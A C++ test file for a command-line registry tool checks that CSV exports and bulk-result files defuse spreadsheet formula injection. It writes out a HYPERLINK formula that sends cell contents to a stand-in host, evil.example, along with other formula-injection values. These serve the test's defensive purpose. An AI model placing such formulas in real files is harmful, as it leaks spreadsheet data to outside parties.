// Registry text that a spreadsheet would run as a formula is written
// defused in every CSV creg makes (exports and bulk results).
#include "tests/cli/cli_fixture.h"

namespace creg::testing {
namespace {

class CsvInjectionTest : public CliTest {};

TEST_F(CsvInjectionTest, ExportedFormulasAreDefused) {
  ASSERT_NO_FATAL_FAILURE(SetUpStory());
  const std::string link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
  RunResult retire =
      Creg(Join({"retire", "--batch", "1", "--quantity", "3", "--beneficiary", link, "--reason",
                 "voluntary-individual", "--details", "-2+3", "--claim-reference", "@SUM(A1:A9)"},
                As("organiser")));
  ASSERT_EQ(retire.exit_code, 0) << retire.err;

  RunResult csv = Creg({"export", "retirements", "-o", Path("r.csv")});
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  std::string text = ReadTextFile(Path("r.csv"));
  EXPECT_NE(text.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
                      "voluntary-individual,\"'-2+3\",,\"'@SUM(A1:A9)\",,,voluntary,,"
                      "not-required\n"),
            std::string::npos)
      << text;
  // Numbers the report writes itself are still plain numbers.
  EXPECT_NE(text.find(",organiser,3,"), std::string::npos) << text;

  // JSON carries the text exactly as stored.
  json::Value rows = CregJson({"export", "retirements", "--format", "json"});
  ASSERT_EQ(rows.as_array().size(), 1u);
  EXPECT_EQ(rows.as_array()[0].GetString("beneficiary").value(), link);
}

TEST_F(CsvInjectionTest, BulkResultsQuoteCellsASpreadsheetCouldSplit) {
  ASSERT_NO_FATAL_FAILURE(SetUpStory());
  WriteText(Path("retire.csv"),
            "batch,quantity,beneficiary,reason\n"
            "1,1,Forum,x;=1+2\n");
  RunResult r = Creg(Join({"bulk", "retire", Path("retire.csv")}, As("organiser")));
  EXPECT_EQ(r.exit_code, 1) << r.err;
  std::string text = ReadTextFile(Path("retire.results.csv"));
  EXPECT_NE(text.find("\n2,error,,,,INVALID_ROW,\"reason 'x;=1+2' is not"), std::string::npos)
      << text;
}

}  // namespace
}  // namespace creg::testing
